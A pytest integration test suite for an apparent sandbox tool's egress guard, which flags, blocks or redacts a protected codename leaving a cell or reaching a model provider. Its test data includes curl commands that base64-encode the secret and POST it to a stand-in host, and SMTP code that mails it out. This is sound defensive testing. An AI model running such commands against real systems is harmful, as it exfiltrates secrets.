"""The egress guard on real cells, ranges and evaluations."""

from __future__ import annotations

import json
import os
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from inspect_ai.log import read_eval_log
from tests.integration.conftest import Belljar
from tests.integration.processes import quick_command
from tests.machine import PATIENCE_S

from belljar.cell.open import open_cell
from belljar.cell.parts import start_run
from belljar.events import Kind
from belljar.ledger.listing import read_events

pytestmark = [pytest.mark.vm, pytest.mark.slow]

SECRET = "ORCHID-7731-codename"
NUMBER = 7731009948113
POLICY = f"""belljar: 1
risk: low
network:
  stand_ins:
    shop: {{kind: http, names: [shop.example], routes: [{{path: "/{{rest...}}", method: [GET, POST], body: hello}}]}}
guard:
  protect: [{{id: codename, value: {SECRET}}}]
  action: {{range: %s, output: %s}}
"""
SENDS = (
    f"printf {SECRET} | base64 | curl -s -o /dev/null -w '%{{http_code}} ' -d @-"
    " http://shop.example/a; curl -s -o /dev/null -w '%{http_code} ' -H 'Host: elsewhere.example'"
    f" -d {SECRET} http://shop.example/a; curl -s -o /dev/null -w '%{{http_code}} ' -d nothing"
    f" http://shop.example/b; echo {SECRET}"
)
"""One request with the value encoded, one with it that is refused anyway, one without it, and the
value in the command's output."""


MAIL = f"""
import smtplib
from email.message import EmailMessage

def send(body):
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@x.example", "b@y.example", "hello"
    mail.set_content(body)
    with smtplib.SMTP("mail.example", 25, timeout=30) as server:
        try:
            return server.send_message(mail) or 250
        except (smtplib.SMTPServerDisconnected, ConnectionError):
            return "cut"
        finally:
            server.close()

print(send("the plan is {SECRET}"), send("lunch?"), send("x" * 300_000 + "{SECRET}" + "y" * 300_000))
"""


def found(run: Path) -> list[dict[str, Any]]:
    return [event.data for event in read_events(run) if event.kind is Kind.GUARD_HIT]


async def say(policy: Path, home: Path, *, mail: bool = False) -> tuple[bytes, Path, bytes]:
    """What the command prints, as its caller gets it, the run's directory, and how mails fared."""
    with start_run("test", None, [], home=home) as run:
        async with open_cell(policy, run=run, home=home) as cell:
            output = await cell.exec(["sh", "-c", SENDS])
            sent = await cell.exec(["python3", "-c", MAIL]) if mail else output
    return output.stdout, run.path, sent.stdout


@pytest.mark.promise("5.7")
@pytest.mark.parametrize("anyio_backend", ["asyncio"])
@pytest.mark.anyio
async def test_what_leaves_a_cell_is_flagged(
    belljar: Belljar, tmp_path: Path, anyio_backend: str
) -> None:
    """A protected value in a request, in base64, and in a command's output."""
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY % ("flag", "flag"))
    output, run, _ = await say(policy, belljar.home)
    assert output == f"200 421 200 {SECRET}\n".encode()
    hits = found(run)
    assert {(hit["place"], hit["action"], hit["value"]) for hit in hits} >= {
        ("range", "flag", "codename"),
        ("output", "flag", "codename"),
    }
    assert any(hit["decoding"] == ["base64"] for hit in hits if hit["place"] == "range")
    events = {event.seq: event.kind for event in read_events(run)}
    assert {events[hit["evidence"]] for hit in hits} >= {Kind.EXEC_COMPLETED}
    assert SECRET not in json.dumps(hits)


@pytest.mark.promise("5.7")
@pytest.mark.parametrize("anyio_backend", ["asyncio"])
@pytest.mark.anyio
async def test_what_the_policy_blocks_does_not_pass(belljar: Belljar, tmp_path: Path) -> None:
    """Requests get 403, mails are cut, the output is without the value; what is beside passes."""
    policy = tmp_path / "policy.yaml"
    mail = "    mail: {kind: smtp, names: [mail.example]}\n"
    policy.write_text((POLICY % ("block", "redact")).replace("guard:", f"{mail}guard:"))
    output, run, mailed = await say(policy, belljar.home, mail=True)
    assert output == b"403 403 200 [redacted]\n"
    actions = {(hit["place"], hit["action"]) for hit in found(run)}
    assert {("range", "block"), ("output", "redact")} <= actions
    lines = list(read_events(run))
    answers = [each.data for each in lines if each.kind is Kind.NETWORK_HTTP_ANSWERED]
    assert [(answer["status"], answer.get("reason")) for answer in answers] == [
        (403, "blocked by the guard"),
        (403, "blocked by the guard"),
        (200, None),
    ]
    assert mailed.split() == [b"cut", b"250", b"cut"]
    mails = [e.data for e in lines if e.kind is Kind.NETWORK_ATTEMPT and e.data["what"] == "mail"]
    assert [each["complete"] for each in mails].count(True) == 1


TASKS = f"""
import json
from inspect_ai import Task, task
from inspect_ai.dataset import Sample
from inspect_ai.model import (
    ChatMessageAssistant, ChatMessageTool, ChatMessageUser, GenerateConfig, ModelAPI, get_model, modelapi,
)
from inspect_ai.solver import solver
from inspect_ai.tool import ToolCall, ToolCallError
from inspect_ai.util import sandbox

class Keeping(ModelAPI):
    def keep(self, *sent):
        with open("sent.jsonl", "a") as file:
            print(json.dumps([self.model_name, sent], default=str), file=file)

    async def count_tokens(self, input, config=None):
        self.keep(input)
        return 1

    async def compact(self, input, tools, config, instructions=None):
        self.keep(input, tools)
        return input, None

    async def generate(self, *_):
        raise NotImplementedError

@modelapi(name="keeping")
def keeping():
    return Keeping

async def say(state, generate):
    said = await sandbox().exec(["sh", "-c", "echo {SECRET[:6]}''{SECRET[6:]}"])
    words, number = said.stdout.split(), {NUMBER}
    call = ToolCall(id="c1", function="look", arguments={{"for": ["the", "code " + words[0]], "card": number}})
    failed = ToolCallError("unknown", f"no {{words[0]}} here")
    state.messages += [
        ChatMessageUser(content="it said " + words[0]),
        ChatMessageAssistant(content="", tool_calls=[call]),
        ChatMessageTool(content="", tool_call_id="c1", function="look", error=failed),
    ]
    return await generate(state)

async def count(state, generate):
    asked = [ChatMessageUser(content="it said {SECRET}")]
    model = get_model(f"keeping/{{state.sample_id}}")
    await model.count_tokens("so: {SECRET}")
    await model.count_tokens(asked)
    await model.compact(asked, [])
    return state

def with_config(**config):
    async def solve(state, generate):
        await get_model().generate("x", config=GenerateConfig(**config))
        return state
    return solve

async def leave(state, generate):
    await get_model().generate("is {SECRET} known?")
    return state

STEPS = {{
    "leave": leave,
    "say": say,
    "count": count,
    "words": with_config(stop_seqs=["{SECRET}"]),
    "seed": with_config(seed={NUMBER}),
}}

@solver
def work():
    async def solve(state, generate):
        return await STEPS[state.sample_id.partition("-")[0]](state, generate)
    return solve

@task
def leaves() -> Task:
    return Task(dataset=[Sample(id="leave", input="x")], solver=work())

@task
def asks() -> Task:
    names = ["say-flag", "say-redact", "say-stop", "words-redact", "seed-redact", "count-redact", "count-stop"]
    samples = [Sample(id=name, input="x", sandbox=("belljar", name.partition("-")[2] + ".yaml")) for name in names]
    return Task(dataset=samples, solver=work(), fail_on_error=False)
"""


class Asked:
    """A run of samples that ask a model, each with its own policy's action."""

    def __init__(self, run: Path, sent: str) -> None:
        self.sent = [json.loads(each) for each in sent.splitlines()]
        (log,) = (run / "inspect").glob("*.eval")
        self.samples = {str(each.id): each for each in read_eval_log(str(log)).samples or ()}
        self.events = list(read_events(run))
        begun = [each for each in self.events if each.kind is Kind.SAMPLE_STARTED]
        self._sample_of = {each.cell: each.data["sample"] for each in begun}

    def of(self, name: str, kind: Kind) -> list[dict[str, Any]]:
        """A sample's events of a kind, those of the guard at the model's boundary alone."""
        return [
            each.data
            for each in self.events
            if each.kind is kind and self._sample_of.get(each.cell) == name
            if each.data.get("place", "model") == "model"
        ]


@pytest.fixture(scope="module")
def asked(vm_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Asked:
    """One run for all that a model's provider may be sent."""
    folder = tmp_path_factory.mktemp("asks")
    (folder / "tasks.py").write_text(TASKS)
    protect = f"{{id: codename, value: {SECRET}}}, {{id: card, value: '{NUMBER}'}}"
    for action in ("flag", "redact", "stop"):
        guard = f"guard: {{protect: [{protect}], action: {{model: {action}}}}}"
        (folder / f"{action}.yaml").write_text(f"belljar: 1\nrisk: low\n{guard}\n")
    argv = quick_command("run", "--json", "tasks.py@asks", "--model", "mockllm/model")
    env = {**os.environ, "BELLJAR_HOME": str(vm_home), "NO_COLOR": "1"}
    done = subprocess.run(
        argv, cwd=folder, env=env, capture_output=True, timeout=PATIENCE_S, check=False
    )
    assert done.stdout, done.stderr
    return Asked(Path(json.loads(done.stdout)["run_dir"]), (folder / "sent.jsonl").read_text())


@pytest.mark.promise("5.7")
@pytest.mark.parametrize("action", ["flag", "redact", "stop"])
def test_the_model_boundary(action: str, asked: Asked) -> None:
    """What a provider would get passes, passes without the values, or ends its sample."""
    sample = asked.samples[f"say-{action}"]
    calls = [event for event in sample.events if event.event == "model"]
    sent = "".join(message.model_dump_json() for event in calls for message in event.input)
    assert (SECRET in sent) == (str(NUMBER) in sent) == (action == "flag")
    assert sent.count("[redacted]") == (4 if action == "redact" else 0)
    assert (sample.limit is not None) == (action == "stop")
    hits = asked.of(f"say-{action}", Kind.GUARD_HIT)
    assert {hit["action"] for hit in hits} == {action}
    everywhere = ["model.content", "model.tool_calls", "model.tool_calls", "model.error"]
    operations = [hit["operation"] for hit in hits]
    assert operations == (everywhere[:1] if action == "stop" else everywhere)


@pytest.mark.parametrize("name", ["words-redact", "seed-redact"])
def test_what_is_beside_the_messages_is_looked_at(name: str, asked: Asked) -> None:
    """A guest may choose a call's stop words and seed."""
    assert [hit["operation"] for hit in asked.of(name, Kind.GUARD_HIT)] == ["model.config"]
    assert asked.of(name, Kind.MODEL_CALLED) == []


@pytest.mark.promise("5.7")
@pytest.mark.parametrize("action", ["redact", "stop"])
def test_counting_and_compacting_are_looked_at(action: str, asked: Asked) -> None:
    """Inspect asks a provider to count tokens and to compact messages without a hook."""
    name = f"count-{action}"
    assert {hit["action"] for hit in asked.of(name, Kind.GUARD_HIT)} == {action}
    calls = asked.of(name, Kind.MODEL_CALLED)
    assert len(calls) == (3 if action == "redact" else 0)
    sent = [str(words) for model, words in asked.sent if model == name]
    assert SECRET not in "".join(sent)
    assert ["[redacted]" in each for each in sent] == [True] * len(calls)


MESSAGE = {"role": "assistant", "content": "no"}
ANSWER = {"id": "1", "object": "chat.completion", "created": 0, "model": "m"} | {
    "choices": [{"index": 0, "finish_reason": "stop", "message": MESSAGE}],
    "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
}


@contextmanager
def provider(sent: list[bytes]) -> Iterator[str]:
    """The place of an OpenAI-compatible server, which keeps what it was sent."""

    class Provider(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            sent.append(self.rfile.read(int(self.headers["content-length"])))
            answer = json.dumps(ANSWER).encode()
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Provider) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{server.server_port}"
        server.shutdown()


@pytest.mark.promise("7.6")
def test_what_left_this_host_is_told(belljar: Belljar, tmp_path: Path) -> None:
    """A provider's server gets one call without the protected value."""
    (tmp_path / "tasks.py").write_text(TASKS)
    policy = tmp_path / "policy.yaml"
    guard = f"guard: {{protect: [{{id: codename, value: {SECRET}}}], action: {{model: redact}}}}"
    policy.write_text(f"belljar: 1\nrisk: low\n{guard}\n")
    run = ["run", "--policy", str(policy), f"{tmp_path}/tasks.py@leaves", "--model"]
    sent: list[bytes] = []
    with provider(sent) as place:
        url = f"http://user:word@{place}/v1"
        done = belljar(*run, "openai-api/local/m", LOCAL_BASE_URL=url, LOCAL_API_KEY="k")
    assert b"What left this host: something" in done.stdout, done.stdout + done.stderr
    left = json.loads((belljar.runs()[-1] / "findings.json").read_bytes())["left_this_host"]
    (to,) = left["destinations"]
    assert (to["name"], to["addresses"], to["calls"]) == ("openai-api/local/m", [place], 1)
    assert to["protected"] == {"protected": {"redact": 1}}
    (only,) = sent
    assert SECRET.encode() not in only
    assert 0 < to["sent_bytes"] < 2 * len(only)
    judged = belljar("verdict", str(belljar.runs()[-1]), "--json")
    assert json.loads(judged.stdout)["left_this_host"] == left
